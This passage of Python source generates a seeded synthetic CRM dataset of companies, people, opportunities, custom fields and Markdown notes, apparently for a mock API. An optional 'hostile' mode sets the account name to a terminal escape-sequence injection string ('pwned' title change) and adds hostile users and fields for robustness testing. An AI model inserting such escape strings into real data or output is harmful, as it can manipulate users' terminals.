    gc_was_enabled = gc.isenabled()
    gc.disable()        # millions of fresh containers: the cyclic GC only slows this down
    try:
        return _Builder(seed, records, hostile).run()
    finally:
        if gc_was_enabled:
            gc.enable()


# --------------------------------------------------------------------------
# Builder
# --------------------------------------------------------------------------

def _slug(s):
    import unicodedata
    s = unicodedata.normalize("NFKD", s)
    s = "".join(ch for ch in s if not unicodedata.combining(ch))
    s = s.replace("\u0142", "l").replace("\u0141", "L").replace("\u00df", "ss").replace("\u00f8", "o")
    return "".join(ch for ch in s.lower() if ch.isascii() and ch.isalnum())


def _table(items, weights=None, size=256):
    """A ``size``-entry lookup table reproducing ``items`` with ``weights``."""
    items = list(items)
    if weights is None:
        weights = [1] * len(items)
    total = float(sum(weights))
    out = []
    acc = 0.0
    for item, w in zip(items, weights):
        acc += w
        while len(out) < round(acc / total * size):
            out.append(item)
    while len(out) < size:
        out.append(items[-1])
    return out


class _Builder:
    def __init__(self, seed, records, hostile):
        self.seed = seed
        self.hostile = bool(hostile)
        if records is None:
            self.counts = dict(DEFAULT_COUNTS)
            self.n_activities = DEFAULT_ACTIVITIES
        else:
            n = max(1, int(records))
            self.counts = {e: n for e in ENTITIES}
            self.n_activities = max(n, 100)
        self.rng = random.Random(seed)
        self.ds = Dataset()
        self.ds.seed = seed
        self.ds.hostile = self.hostile

    # ---- random helpers -------------------------------------------------
    def u32(self, n):
        """n uniform 32-bit ints."""
        import array
        import sys
        a = array.array("I")
        if a.itemsize != 4:
            a = array.array("L")
            if a.itemsize != 4:
                return [self.rng.getrandbits(32) for _ in range(n)]
        a.frombytes(self.rng.randbytes(4 * n))
        if sys.byteorder == "big":
            a.byteswap()
        return a.tolist()

    def ids(self, base, n):
        """n increasing ids above ``base`` with occasional gaps (deleted records)."""
        steps = map(_STEP_TABLE.__getitem__, self.rng.randbytes(n))
        return list(itertools.accumulate(steps, initial=base))[1:]

    # ---- main -----------------------------------------------------------
    def run(self):
        ds = self.ds
        self.build_lookups()
        self.build_text_pools()
        self.build_cf_pools()
        self.gen_companies(self.counts["companies"])
        self.gen_people(self.counts["people"])
        self.finish_companies()
        self.gen_opportunities(self.counts["opportunities"])
        self.gen_leads(self.counts["leads"])
        self.gen_projects(self.counts["projects"])
        self.gen_tasks(self.counts["tasks"])
        self.add_reference_examples()
        self.gen_activities(self.n_activities)
        self.build_layouts()
        self.build_followed()
        if self.hostile:
            _Hostile(self).apply()
        ds.tags = ds.tag_counts()
        return ds

    def build_followed(self):
        """Records the API user follows: the ones they own plus a sprinkle of others."""
        for entity in ENTITIES:
            self.ds.followed[entity] = sorted(
                set(_FOLLOWED_EXAMPLES.get(entity, ())) | {
                    rid for rid, rec in self.ds.records[entity].items()
                    if rec["assignee_id"] == ME_ID or rid % 23 == 0})

    # ---- look-ups -------------------------------------------------------
    def build_lookups(self):
        ds, hostile = self.ds, self.hostile
        ds.account = {
            "id": 123,
            "name": ("\x1b]0;pwned\x07Patina Demo \x1b[1mCo.\x1b[0m \u2764\ufe0f" if hostile
                     else "Patina Demo Co."),
            "primary_timezone": "America/New_York",
            "settings": {"setting_team_permissions_enabled": True,
                         "setting_enable_leads": True},
        }
        users = _USERS + (_HOSTILE_USERS if hostile else ())
        ds.users = [{"id": uid, "name": name, "email": email} for uid, name, email, _ in users]
        ds.user_details = {
            uid: {"id": uid, "name": name, "email": email,
                  "groups": [{"id": t, "name": TEAMS[t]} for t in teams]}
            for uid, name, email, teams in users}
        ds.me = copy.deepcopy(ds.user_details[ME_ID])
        ds.contact_types = [{"id": i, "name": n} for i, n in CONTACT_TYPES]
        ds.customer_sources = [{"id": i, "name": n} for i, n in CUSTOMER_SOURCES]
        ds.lead_statuses = [{"id": i, "name": n, "order": o, "is_default": d}
                            for i, n, o, d in LEAD_STATUSES]
        ds.loss_reasons = [{"id": i, "name": n} for i, n in LOSS_REASONS]
        pipelines = PIPELINES + ((_HOSTILE_PIPELINE,) if hostile else ())
        ds.pipelines = [
            {"id": pid, "name": name,
             "stages": [{"id": s, "name": sn, "win_probability": wp} for s, sn, wp in stages],
             "type": "opportunity", "is_revenue": rev}
            for pid, name, rev, stages in pipelines]
        ds.pipeline_stages = [
            {"id": s["id"], "name": s["name"], "pipeline_id": p["id"],
             "win_probability": s["win_probability"]}
            for p in ds.pipelines for s in p["stages"]]
        cfs = CUSTOM_FIELDS + ((_HOSTILE_CUSTOM_FIELD,) if hostile else ())
        defs = []
        for cid, name, dtype, avail, filt, extra in cfs:
            d = {"id": cid, "name": name, "data_type": dtype, "available_on": list(avail),
                 "is_filterable": filt}
            if "currency" in extra:
                d["currency"] = extra["currency"]
            if "options" in extra:
                d["options"] = [{"id": oid, "name": on, "rank": rank}
                                for rank, (oid, on) in enumerate(extra["options"])]
            defs.append(d)
        ds.custom_field_definitions = defs
        ds.activity_types = {
            "user": [{"id": i, "category": "user", "name": n, "is_disabled": dis,
                      "count_as_interaction": cnt}
                     for i, n, dis, cnt in _USER_ACTIVITY_TYPES],
            "system": [{"id": i, "category": "system", "name": n, "is_disabled": False,
                        "count_as_interaction": False}
                       for i, n in _SYSTEM_ACTIVITY_TYPES],
        }
        # Tables used by the generators (normal look-ups only).
        user_ids = [u[0] for u in _USERS]
        self.assignee_table = _table(user_ids + [None],
                                     [14, 8, 12, 12, 10, 9, 9, 8, 8, 7, 7, 7, 12])
        self.contact_type_table = _table([c[0] for c in CONTACT_TYPES], [30, 35, 12, 6, 10, 7])
        self.source_table = _table([s[0] for s in CUSTOMER_SOURCES] + [None],
                                   [10, 12, 8, 16, 14, 8, 6, 10, 6, 10])
        self.stages = {pid: stages for pid, _, _, stages in PIPELINES}
        self.pipeline_rev = {pid: rev for pid, _, rev, _ in PIPELINES}
        self.pipeline_table = _table([p[0] for p in PIPELINES], [55, 10, 20, 15])
        self.tag_sets = self._make_tag_sets()

    def _make_tag_sets(self):
        """256 tag lists (as tuples) with a realistic popularity skew."""
        rng = self.rng
        weights = [max(1, 40 - 3 * i) for i in range(len(TAGS))]
        out = []
        for k in range(256):
            r = k % 16
            count = 0 if r < 8 else 1 if r < 12 else 2 if r < 15 else 3
            chosen = []
            while len(chosen) < count:
                t = rng.choices(TAGS, weights)[0]
                if t not in chosen:
                    chosen.append(t)
            out.append(tuple(chosen))
        rng.shuffle(out)
        return out

    # ---- text pools -------------------------------------------------------
    def build_text_pools(self):
        rng = self.rng
        self.first_table = _table(FIRST_NAMES)
        self.last_table = _table(LAST_NAMES)
        self.first_slug = {n: _slug(n) for n in FIRST_NAMES}
        self.last_slug = {n: _slug(n) for n in LAST_NAMES}
        self.title_table = _table(TITLES)
        self.middle_table = _table(MIDDLE_NAMES)
        self.digits4 = ["%04d" % i for i in range(10000)]
        self.city_table = _table(range(len(CITIES)), _CITY_WEIGHTS)
        # Street addresses per city (shared source dicts: records get copies).
        addr_pool = []
        for k in range(1024):
            ci = self.city_table[k % 256]
            city, state, country, postals, _, _ = CITIES[ci]
            streets = STREETS.get(country, STREETS[""])
            street = streets[rng.randrange(len(streets))]
            num = rng.randrange(1, 2400)
            line = "%d %s" % (num, street)
            if rng.random() < 0.2:
                line += rng.choice((" Suite %d" % rng.randrange(100, 1999),
                                    ", Floor %d" % rng.randrange(2, 40),
                                    " Unit %d" % rng.randrange(1, 90)))
            addr_pool.append((ci, {"street": line, "city": city, "state": state,
                                   "postal_code": rng.choice(postals), "country": country}))
        self.addr_pool = addr_pool
        self.details_table = self._details_table()
        self.note_table = self._note_table()

    def _markdown_doc(self):
        rng = self.rng
        who = "%s %s" % (rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES))
        product = rng.choice(PRODUCTS)
        n = rng.randrange(1000, 9999)
        blocks = []
        blocks.append("## " + rng.choice(("Summary", "Account overview", "Deal notes",
                                          "Background", "Context")))
        blocks.append(rng.choice((
            "%s evaluating the **%s** for their %s team. Main pain point is "
            "_manual reporting_ that takes about %d hours a week." % (
                rng.choice(("They are", "The client is", "This account is")), product, rng.choice(("sales", "operations", "finance", "support")),
                rng.randrange(3, 40)),
            "Introduced by %s at the spring conference. They run a hybrid team "
            "across %d offices and want one source of truth for customer data." % (
                who, rng.randrange(2, 12)),
            "Long-time customer since %d. Usage grew **%d%%** last year; the "
            "champion (%s) is pushing for the %s." % (
                rng.randrange(2015, 2024), rng.randrange(5, 180), who, product),
        )))
        if rng.random() < 0.8:
            blocks.append("### " + rng.choice(("Stakeholders", "Key contacts", "People")))
            blocks.append("\n".join((
                "- **Decision maker:** %s" % who,
                "- *Champion:* %s %s" % (rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)),
                "- Procurement: %s (`%s`)" % (rng.choice(FIRST_NAMES),
                                              rng.choice(("slow", "strict", "friendly"))),
            )))
        if rng.random() < 0.7:
            blocks.append("### Next steps")
            steps = rng.sample((
                "Send revised quote", "Schedule technical deep-dive",
                "Share [security overview](https://docs.patina.example/security)",
                "Confirm budget owner", "Book onsite workshop",
                "Draft mutual action plan", "Loop in legal for MSA review",
                "Set up sandbox account"), rng.randrange(2, 5))
            if rng.random() < 0.5:
                blocks.append("\n".join("%d. %s" % (i + 1, s) for i, s in enumerate(steps)))
            else:
                blocks.append("\n".join("- [%s] %s" % (rng.choice(" x"), s) for s in steps))
        if rng.random() < 0.35:
            blocks.append("Pricing reference: `SKU-%d`, PO `PO-%d-%04d`." % (
                n, rng.randrange(2023, 2026), rng.randrange(10000)))
        if rng.random() < 0.25:
            blocks.append("```json\n{\n  \"seats\": %d,\n  \"term_months\": %d,\n"
                          "  \"sso\": %s\n}\n```" % (rng.randrange(5, 900),
                                                      rng.choice((12, 24, 36)),
                                                      rng.choice(("true", "false"))))
        if rng.random() < 0.25:
            blocks.append("> %s" % rng.choice((
                "\"If the integration works we will roll it out to every region.\"",
                "\"Price is fine, timing is the problem.\"",
                "\"We need this live before the audit.\"")))
        if rng.random() < 0.2:
            blocks.append("| Item | Qty | Price |\n|---|---:|---:|\n| %s | %d | $%d |\n"
                          "| Onboarding | 1 | $%d |" % (product, rng.randrange(1, 200),
                                                       rng.randrange(500, 90000),
                                                       rng.randrange(500, 5000)))
        if rng.random() < 0.3:
            blocks.append("See the [account plan](https://wiki.patina.example/accounts/%d) "
                          "and the ~~old~~ *current* forecast." % n)
        return "\n\n".join(blocks)

    def _details_table(self):
        rng = self.rng
        docs = [self._markdown_doc() for _ in range(400)]
        short = []
        for _ in range(150):
            short.append(rng.choice((
                "Met at %s. Interested in %s." % (rng.choice(("SaaStr", "Dreamforce",
                                                                "a webinar", "the trade show")),
                                                   rng.choice(PRODUCTS)),
                "Prefers email over phone. Best time: %s." % rng.choice(("mornings",
                                                                          "after 3pm",
                                                                          "Fridays")),
                "Referred by %s %s." % (rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)),
                "Annual review in %s." % rng.choice(("January", "March", "June",
                                                     "September", "November")),
                "Key account - handle with care.",
                "Uses %s today; contract ends in Q%d." % (rng.choice(("Salesforce", "HubSpot",
                                                                       "spreadsheets")),
                                                           rng.randrange(1, 5)),
            )))
        # 256 slots: ~45% None, ~20% one-liners, ~35% Markdown documents.
        table = []
        for k in range(256):
            if k < 115:
                table.append(None)
            elif k < 166:
                table.append(short[k % len(short)])
            else:
                table.append(docs[k % len(docs)])
        rng.shuffle(table)
        self.markdown_docs = docs
        self.short_details = short
        return table

    def _note_table(self):
        rng = self.rng
        notes = []
        for k in range(256):
            r = k % 4
            if r == 0:
                notes.append(self.markdown_docs[rng.randrange(len(self.markdown_docs))])
            else:
                notes.append(rng.choice(_NOTE_SNIPPETS).replace(
                    "{first}", rng.choice(FIRST_NAMES)))
        return notes

    # ---- custom fields ----------------------------------------------------
    def cf_value(self, d):
        rng = self.rng
        dtype = d["data_type"]
        r = rng.random()
        if dtype == "Checkbox":
            return r < 0.3
        if dtype == "MultiSelect":
            if r < 0.35:
                return []
            opts = d["options"]
            k = 1 if r < 0.7 else 2 if r < 0.9 else 3
            chosen = sorted(rng.sample(range(len(opts)), min(k, len(opts))))
            return [opts[i]["id"] for i in chosen]
        if r < 0.4:
            return None
        if dtype == "Dropdown":
            return rng.choice(d["options"])["id"]
        if dtype == "Date":
            return NOW - TWO_YEARS + rng.randrange(0, 1095) * DAY
        if dtype == "Float":
            if d["id"] == 128735:
                return round(rng.uniform(0, 100), 1)
            return rng.choice((rng.randrange(1, 500), rng.randrange(1, 200) + 0.5))
        if dtype == "Percentage":
            return rng.choice((rng.randrange(0, 21) * 5, round(rng.uniform(0, 100), 2)))
        if dtype == "Currency":
            return rng.choice((rng.randrange(10, 5000) * 100,
                               round(rng.uniform(100, 250000), 2)))
        if dtype == "URL":
            return "https://drive.patina.example/folders/%08x" % rng.getrandbits(32)
        if dtype == "String":
            if d["id"] == 4:
                return "EXT-%06d" % rng.randrange(1000000)
            return rng.choice(("Text fields are 255 chars or less!", "Prefers WhatsApp",
                               "Met at SaaStr", "Net 45 payment terms", "Has a sister company",
                               "Renewal owner changed", "Billing via reseller"))
        if dtype == "Text":
            return rng.choice(("Text area fields can have long text content",
                               "Line one of the notes.\nLine two with more detail.\n\nA new paragraph.",
                               "Escalated twice in 2024.\nBoth resolved within SLA.",
                               "Wants quarterly business reviews.\nSend agenda a week ahead."))
        raise ValueError(dtype)

    def build_cf_pools(self):
        """Per entity, a pool of custom_fields lists (private while n <= POOL_SIZE)."""
        self.cf_defs = {e: [] for e in ENTITIES}
        for d in self.ds.custom_field_definitions:
            if d["id"] == _HOSTILE_CUSTOM_FIELD[0]:
                continue
            for e in ENTITIES:
                if PARENT_TYPE[e] in d["available_on"]:
                    self.cf_defs[e].append(d)
        self.cf_pools = {}
        for e in ENTITIES:
            size = min(self.counts[e], POOL_SIZE)
            defs = self.cf_defs[e]
            cf_value = self.cf_value
            self.cf_pools[e] = [
                [{"custom_field_definition_id": d["id"], "value": cf_value(d)} for d in defs]
                for _ in range(size)]

    def custom_fields_for(self, entity, i):
        pool = self.cf_pools[entity]
        return pool[i % len(pool)]

    def fresh_custom_fields(self, entity):
        return [{"custom_field_definition_id": d["id"], "value": self.cf_value(d)}
                for d in self.cf_defs[entity]]

    # ---- companies ------------------------------------------------------
    def gen_companies(self, n_total):
        rng = self.rng
        records = self.ds.records["companies"]
        ids = self.ids(ID_BASE["companies"], n_total)
        n = min(n_total, POOL_SIZE)
        R = self.u32(3 * n)
        B = rng.randbytes(8 * n)
        na, nn, ns = len(CO_ADJ), len(CO_NOUN), len(CO_SECTOR)
        space = na * nn * ns
        mult = 7919 * 104729 % space
        while _gcd(mult, space) != 1:
            mult += 1
        offset = rng.randrange(space)
        addr_pool, digits4 = self.addr_pool, self.digits4
        assignee_t, ctype_t, tag_sets = self.assignee_table, self.contact_type_table, self.tag_sets
        details_t = self.details_table
        cf_pool = self.cf_pools["companies"]
        cfn = len(cf_pool)
        tmpl = dict.fromkeys(RECORD_KEYS["companies"])
        cp = tmpl.copy
        self.co_ids, self.co_names, self.co_domain, self.co_city, self.co_addr = [], [], [], [], []
        self.co_people = [[] for _ in range(n_total)]
        self.co_recs = []
        for i in range(n):
            rid = ids[i]
            r0, r1, r2 = R[3 * i], R[3 * i + 1], R[3 * i + 2]
            b = B[8 * i: 8 * i + 8]
            k = (i * mult + offset) % space
            adj, noun, sector = CO_ADJ[k % na], CO_NOUN[(k // na) % nn], CO_SECTOR[k // (na * nn)]
            ci, addr = addr_pool[r0 & 1023]
            city = CITIES[ci]
            legal = city[5][b[0] % len(city[5])]
            style = b[1]
            if style < 150:
                name = "%s %s %s%s" % (adj, noun, sector, legal)
            elif style < 210:
                name = "%s%s%s" % (adj, noun.lower(), legal)
            else:
                name = "%s %s%s" % (adj, sector, legal)
            slug = (adj + noun).lower()
            tld = ".com" if city[2] == "US" or b[2] < 90 else "." + city[2].lower()
            if tld == ".gb":
                tld = ".co.uk"
            domain = slug + tld
            d = cp()
            d["id"] = rid
            d["name"] = name
            a = addr.copy() if b[3] > 8 else None
            d["address"] = a
            d["assignee_id"] = assignee_t[b[4]]
            d["contact_type_id"] = ctype_t[b[5]] if b[5] > 20 else None
            d["details"] = details_t[(r1 >> 24) & 255]
            d["email_domain"] = domain
            phones = [{"number": city[4] + digits4[r1 % 10000], "category": "work"}]
            if b[6] < 40:
                phones.append({"number": city[4] + digits4[(r1 >> 14) % 10000],
                               "category": "other"})
            d["phone_numbers"] = phones
            socials = []
            if b[6] & 1:
                socials.append({"url": "https://www.linkedin.com/company/" + slug,
                                "category": "linkedin"})
            if b[6] & 2:
                socials.append({"url": "https://twitter.com/" + slug, "category": "twitter"})
            if b[6] & 12 == 12:
                socials.append({"url": "https://www.facebook.com/" + slug, "category": "facebook"})
            d["socials"] = socials
            d["tags"] = list(tag_sets[b[7]])
            d["websites"] = [{"url": "https://www." + domain, "category": "work"}] if b[2] > 12 else []
            d["custom_fields"] = cf_pool[i % cfn]
            created = NOW - (r2 % TWO_YEARS)
            d["date_created"] = created
            d["date_modified"] = created + (NOW - created) * ((r2 >> 20) & 1023) // 1024
            d["interaction_count"] = ((r0 >> 10) & 255) * ((r0 >> 18) & 255) // 300
            records[rid] = d
            self.co_ids.append(rid)
            self.co_names.append(name)
            self.co_domain.append(domain)
            self.co_city.append(ci)
            self.co_addr.append(a)
            self.co_recs.append(d)
        if n_total > n:
            self.clone_companies(n, n_total, ids, mult, offset, space)

    def clone_companies(self, start, n_total, ids, mult, offset, space):
        records = self.ds.records["companies"]
        R = self.u32(2 * (n_total - start))
        na, nn = len(CO_ADJ), len(CO_NOUN)
        tmpls = self.co_recs[:start]
        tcity = self.co_city[:start]
        co_ids, co_names, co_domain, co_city, co_addr, co_recs = (
            self.co_ids, self.co_names, self.co_domain, self.co_city, self.co_addr, self.co_recs)
        for j in range(start, n_total):
            r0, r1 = R[2 * (j - start)], R[2 * (j - start) + 1]
            tk = j % start
            t = tmpls[tk]
            d = t.copy()
            rid = ids[j]
            d["id"] = rid
            k = (j * mult + offset) % space
            adj, noun, sector = CO_ADJ[k % na], CO_NOUN[(k // na) % nn], CO_SECTOR[k // (na * nn)]
            name = adj + " " + noun + " " + sector
            domain = (adj + noun).lower() + (".com" if r0 & 1 else ".io")
            d["name"] = name
            d["email_domain"] = domain
            if t["websites"]:
                d["websites"] = [{"url": "https://www." + domain, "category": "work"}]
            created = NOW - (r1 % TWO_YEARS)
            d["date_created"] = created
            d["date_modified"] = created + (NOW - created) * ((r0 >> 8) & 1023) // 1024
            records[rid] = d
            co_ids.append(rid)
            co_names.append(name)
            co_domain.append(domain)
            co_city.append(tcity[tk])
            co_addr.append(t["address"])
            co_recs.append(d)

    def finish_companies(self):
        for d, people in zip(self.co_recs, self.co_people):
            d["primary_contact_id"] = people[0] if people else None

    # ---- people ---------------------------------------------------------
    def company_choice(self, n, share_with_company=0.88):
        """Company index per record (or -1), skewed: a few big accounts."""
        rng = self.rng
        nc = len(self.co_ids)
        weights = [1.0 / (k + 3) ** 0.85 for k in range(nc)]
        order = list(range(nc))
        rng.shuffle(order)
        picks = rng.choices(order, weights, k=n)
        flags = rng.randbytes(n)
        cut = int(share_with_company * 256)
        return [p if f < cut else -1 for p, f in zip(picks, flags)]

    def gen_people(self, n_total):
        rng = self.rng
        records = self.ds.records["people"]
        ids = self.ids(ID_BASE["people"], n_total)
        n = min(n_total, POOL_SIZE)
        R = self.u32(3 * n)
        B = rng.randbytes(12 * n)
        comp = self.company_choice(n_total)
        first_t, last_t, mid_t, title_t = (self.first_table, self.last_table,
                                           self.middle_table, self.title_table)
        fslug, lslug = self.first_slug, self.last_slug
        assignee_t, ctype_t, tag_sets = self.assignee_table, self.contact_type_table, self.tag_sets
        details_t, addr_pool, digits4 = self.details_table, self.addr_pool, self.digits4
        co_ids, co_names, co_domain, co_city, co_addr, co_people = (
            self.co_ids, self.co_names, self.co_domain, self.co_city, self.co_addr,
            self.co_people)
        cf_pool = self.cf_pools["people"]
        cfn = len(cf_pool)
        seen = set()
        tmpl = dict.fromkeys(RECORD_KEYS["people"])
        cp = tmpl.copy
        self.p_ids, self.p_comp, self.p_first, self.p_recs = ids, comp, [], []
        p_first_append, p_recs_append = self.p_first.append, self.p_recs.append
        for i in range(n):
            rid = ids[i]
            r0, r1, r2 = R[3 * i], R[3 * i + 1], R[3 * i + 2]
            b = B[12 * i: 12 * i + 12]
            first, last = first_t[b[0]], last_t[b[1]]
            d = cp()
            d["id"] = rid
            name = first + " " + last
            if b[2] < 26:
                middle = mid_t[b[3]]
                d["middle_name"] = middle
                name = first + " " + middle + " " + last
            if b[4] < 6:
                suffix = SUFFIXES[b[4] % 7]
                d["suffix"] = suffix
                name = name + ", " + suffix
            if b[5] < 13:
                d["prefix"] = PREFIXES[b[5] % 5]
            d["name"] = name
            d["first_name"] = first
            d["last_name"] = last
            c = comp[i]
            fs, ls = fslug[first], lslug[last]
            if c >= 0:
                co_people[c].append(rid)
                d["company_id"] = co_ids[c]
                d["company_name"] = co_names[c]
                domain = co_domain[c]
                ci = co_city[c]
                ca = co_addr[c]
                if ca is not None and b[6] < 170:
                    addr = ca.copy()
                else:
                    ci, addr = addr_pool[r0 & 1023]
                    addr = addr.copy()
            else:
                domain = PERSONAL_DOMAINS[b[7] % 9]
                ci, addr = addr_pool[r0 & 1023]
                addr = addr.copy()
            if b[6] > 245:
                addr = None
            d["address"] = addr
            style = b[7] & 3
            local = (fs + "." + ls if style < 2 else fs[:1] + ls if style == 2 else fs + "_" + ls)
            email = local + "@" + domain
            if email in seen:
                email = "%s%d@%s" % (local, i, domain)
            seen.add(email)
            emails = [{"email": email, "category": "work" if c >= 0 else "personal"}]
            if b[8] < 25:
                emails.append({"email": "%s.%s%d@%s" % (fs, ls, i, PERSONAL_DOMAINS[b[8] % 9]),
                               "category": "personal"})
            d["emails"] = emails
            prefix = CITIES[ci][4]
            phones = []
            if b[9] < 200:
                phones.append({"number": prefix + digits4[r1 % 10000],
                               "category": "work" if c >= 0 else "mobile"})
            if b[9] > 150:
                phones.append({"number": prefix + digits4[(r1 >> 13) % 10000], "category": "mobile"})
            if b[9] == 255:
                phones.append({"number": prefix + digits4[(r1 >> 3) % 10000], "category": "home"})
            d["phone_numbers"] = phones
            socials = []
            if b[10] < 110:
                socials.append({"url": "https://www.linkedin.com/in/%s-%s-%x" % (fs, ls, r2 & 0xfff),
                                "category": "linkedin"})
            if b[10] & 7 == 7:
                socials.append({"url": "https://twitter.com/%s%s" % (fs[:1], ls),
                                "category": "twitter"})
            d["socials"] = socials
            d["tags"] = list(tag_sets[b[11]])
            d["title"] = title_t[(r0 >> 10) & 255] if (r0 >> 18) & 15 else None
            d["websites"] = ([{"url": "https://%s%s.example.com" % (fs, ls), "category": "personal"}]
                             if b[10] > 240 else [])
            d["assignee_id"] = assignee_t[(r0 >> 22) & 255]
            d["contact_type_id"] = ctype_t[(r1 >> 24) & 255]
            d["details"] = details_t[(r2 >> 24) & 255]
            d["custom_fields"] = cf_pool[i % cfn]
            created = NOW - (r2 % TWO_YEARS)
            d["date_created"] = created
            ic = ((r0 >> 26) & 63) * ((r1 >> 16) & 63) // 64
            d["interaction_count"] = ic
            span = NOW - created
            d["date_last_contacted"] = created + span * ((r1 >> 4) & 1023) // 1024 if ic else None
            d["date_modified"] = created + span * ((r2 >> 14) & 1023) // 1024
            d["leads_converted_from"] = []
            records[rid] = d
            p_first_append(first)
            p_recs_append(d)
        if n_total > n:
            self.clone_people(n, n_total, seen)

    def clone_people(self, start, n_total, seen):
        """People beyond POOL_SIZE: a generated person re-varied (nested containers shared)."""
        records = self.ds.records["people"]
        ids, comp = self.p_ids, self.p_comp
        R = self.u32(2 * (n_total - start))
        first_t, last_t = self.first_table, self.last_table
        fslug, lslug = self.first_slug, self.last_slug
        co_ids, co_names, co_domain, co_people = (self.co_ids, self.co_names, self.co_domain,
                                                  self.co_people)
        tmpls = self.p_recs[:start]
        p_first_append, p_recs_append = self.p_first.append, self.p_recs.append
        for j in range(start, n_total):
            k = 2 * (j - start)
            r0, r1 = R[k], R[k + 1]
            t = tmpls[j % start]
            d = t.copy()
            rid = ids[j]
            d["id"] = rid
            first, last = first_t[r0 & 255], last_t[(r0 >> 8) & 255]
            d["first_name"] = first
            d["last_name"] = last
            d["name"] = first + " " + last
            if t["middle_name"] is not None or t["suffix"] is not None:
                d["middle_name"] = d["suffix"] = None
            c = comp[j]
            if c >= 0:
                co_people[c].append(rid)
                d["company_id"] = co_ids[c]
                d["company_name"] = co_names[c]
                domain = co_domain[c]
            else:
                d["company_id"] = d["company_name"] = None
                domain = PERSONAL_DOMAINS[r0 % 9]
            email = fslug[first] + "." + lslug[last] + "@" + domain
            if email in seen:
                email = "%s.%s%d@%s" % (fslug[first], lslug[last], j, domain)
            seen.add(email)
            d["emails"] = [{"email": email, "category": "work" if c >= 0 else "personal"}]
            created = NOW - (r1 % TWO_YEARS)
            span = NOW - created
            d["date_created"] = created
            d["date_modified"] = created + span * ((r0 >> 16) & 1023) // 1024
            if t["date_last_contacted"] is not None:
                d["date_last_contacted"] = created + span * ((r1 >> 7) & 1023) // 1024
            records[rid] = d
            p_first_append(first)
            p_recs_append(d)

    # ---- opportunities --------------------------------------------------
    def gen_opportunities(self, n_total):
        rng = self.rng
        records = self.ds.records["opportunities"]
        ids = self.ids(ID_BASE["opportunities"], n_total)
        n = min(n_total, POOL_SIZE)
        R = self.u32(4 * n)
        B = rng.randbytes(12 * n)
        pipeline_t = self.pipeline_table
        stages, rev = self.stages, self.pipeline_rev
        assignee_t, source_t, tag_sets = self.assignee_table, self.source_table, self.tag_sets
        details_t = self.details_table
        p_ids, p_comp, p_recs = self.p_ids, self.p_comp, self.p_recs
        with_co = [k for k, c in enumerate(p_comp) if c >= 0] or list(range(len(p_ids)))
        no_co = [k for k, c in enumerate(p_comp) if c < 0] or with_co
        co_ids, co_names = self.co_ids, self.co_names
        status_t = _table(("Open", "Won", "Lost", "Abandoned"), (55, 22, 18, 5))
        priority_t = _table(("None", "Low", "Medium", "High"), (40, 20, 25, 15))
        loss_t = _table([lr[0] for lr in LOSS_REASONS] + [None], (20, 18, 14, 14, 12, 8, 6, 8))
        currency_t = _table(CURRENCIES)
        templates = OPP_TEMPLATES
        close_table = _close_date_table()
        cf_pool = self.cf_pools["opportunities"]
        cfn = len(cf_pool)
        tmpl = dict.fromkeys(RECORD_KEYS["opportunities"])
        tmpl["pipeline_type"] = "opportunity"
        cp = tmpl.copy
        self.o_ids, self.o_recs = ids, []
        nwc, nnc = len(with_co), len(no_co)
        for i in range(n):
            rid = ids[i]
            r0, r1, r2, r3 = R[4 * i], R[4 * i + 1], R[4 * i + 2], R[4 * i + 3]
            b = B[12 * i: 12 * i + 12]
            pk = with_co[r0 % nwc] if b[0] < 232 else no_co[r0 % nnc]
            c = p_comp[pk]
            pid = pipeline_t[b[1]]
            st = stages[pid]
            status = status_t[b[2]]
            d = cp()
            d["id"] = rid
            co = co_names[c] if c >= 0 else p_recs[pk]["last_name"]
            product = PRODUCTS[b[3] % len(PRODUCTS)]
            tl = templates[pid]
            created = NOW - (r1 % TWO_YEARS)
            year = _year(created) + 1
            d["name"] = tl[b[4] % len(tl)].format(co=co, product=product,
                                                  qty=(b[5] % 50 + 1) * 5, year=year)
            d["assignee_id"] = assignee_t[b[6]]
            d["company_id"] = co_ids[c] if c >= 0 else None
            d["company_name"] = co_names[c] if c >= 0 else None
            d["customer_source_id"] = source_t[b[7]]
            d["details"] = details_t[(r0 >> 24) & 255]
            span = NOW - created
            if status == "Open":
                si = (r2 & 255) * len(st) // 256
                win = st[si][2]
                close = NOW - 30 * DAY + (r2 >> 8) % (210 * DAY)
            else:
                si = len(st) - 1 if status == "Won" else (r2 & 255) * len(st) // 256
                win = 100 if status == "Won" else 0
                close = created + span * ((r2 >> 8) & 1023) // 1024
            d["loss_reason_id"] = loss_t[b[8]] if status == "Lost" else None
            d["pipeline_id"] = pid
            d["pipeline_is_revenue"] = rev[pid]
            d["pipeline_stage_id"] = st[si][0]
            d["primary_contact_id"] = p_ids[pk]
            d["priority"] = priority_t[b[9]]
            d["status"] = status
            d["tags"] = list(tag_sets[b[10]])
            ic = ((r3 >> 4) & 63) * ((r3 >> 10) & 63) // 80
            d["interaction_count"] = ic
            unit, rate = currency_t[b[11]]
            if (r3 >> 16) & 31:
                base = (1 + ((r3 >> 21) & 255)) * (1 + ((r3 >> 29) & 7)) * ((r0 & 15) + 1) * 50
                value = base if b[11] & 1 else base + ((r0 >> 4) & 99) / 100
                d["monetary_value"] = value
                d["converted_unit"] = "USD"
                d["converted_value"] = round(value * rate, 2)
            d["monetary_unit"] = unit
            d["win_probability"] = win
            d["date_stage_changed"] = created + span * ((r1 >> 20) & 255) // 256
            d["date_last_contacted"] = created + span * ((r3 >> 22) & 1023) // 1024 if ic else None
            d["leads_converted_from"] = []
            d["close_date"] = close_table[(close - _CLOSE_BASE) // DAY] if b[3] > 10 else None
            d["date_created"] = created
            d["date_modified"] = max(d["date_stage_changed"],
                                     created + span * ((r2 >> 20) & 1023) // 1024)
            d["custom_fields"] = cf_pool[i % cfn]
            records[rid] = d
            self.o_recs.append(d)
        if n_total > n:
            self.clone_opportunities(n, n_total, ids, with_co, no_co, close_table)

    def clone_opportunities(self, start, n_total, ids, with_co, no_co, close_table):
        records = self.ds.records["opportunities"]
        R = self.u32(3 * (n_total - start))
        p_ids, p_comp, p_recs = self.p_ids, self.p_comp, self.p_recs
        co_ids, co_names = self.co_ids, self.co_names
        nwc, nnc = len(with_co), len(no_co)
        suffix = {pid: _table([" - " + p for p in PRODUCTS] + [" renewal", " expansion",
                                                                   " pilot", " (multi-year)"])
                  for pid in OPP_TEMPLATES}
        suffix[213216] = _table([" renewal FY%d" % y for y in (2024, 2025, 2026)] +
                                [" - renewal + " + p for p in PRODUCTS[:6]])
